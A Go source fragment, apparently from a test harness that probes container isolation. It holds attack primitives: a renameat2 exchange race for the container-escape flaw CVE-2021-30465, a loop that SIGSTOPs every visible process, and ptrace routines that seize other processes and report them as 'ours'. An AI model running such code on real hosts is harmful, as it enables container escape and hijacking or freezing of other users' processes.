package main

import (
	"os"
	"runtime"
	"strconv"

	"golang.org/x/sys/unix"
)

// swap exchanges two names for as long as it lives: what one checks is not what it then uses
// (CVE-2021-30465).
func swap(args []string) error {
	a, b := args[0], args[1]
	for {
		if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
			return err
		}
	}
}

// stop stops whoever is born, before it can do anything.
func stop([]string) error {
	for {
		for _, pid := range others() {
			_ = unix.Kill(pid, unix.SIGSTOP) // it may be gone
		}
	}
}

// others are the processes in sight that are neither this one nor the first.
func others() []int {
	dir, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer dir.Close()
	names, _ := dir.Readdirnames(-1) // what could be read is enough: it is done again
	var out []int
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid != 1 && pid != os.Getpid() {
			out = append(out, pid)
		}
	}
	return out
}

// trace traces whoever is born, and never lets go (ptrace(2)): what is traced is nobody's to reap but the tracer's.
func trace([]string) error {
	runtime.LockOSThread() // a tracer is a thread
	traced := map[int]bool{}
	for {
		for _, pid := range others() {
			if !traced[pid] {
				traced[pid] = unix.PtraceSeize(pid) == nil
			}
		}
	}
}

// possess traces one process, which then does what this one wants it to (ptrace(2)).
func possess(args []string) error {
	runtime.LockOSThread() // a tracer is a thread
	pid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := unix.PtraceSeize(pid); err != nil {
		return err
	}
	escaped("process %d is ours", pid)
	return nil
}
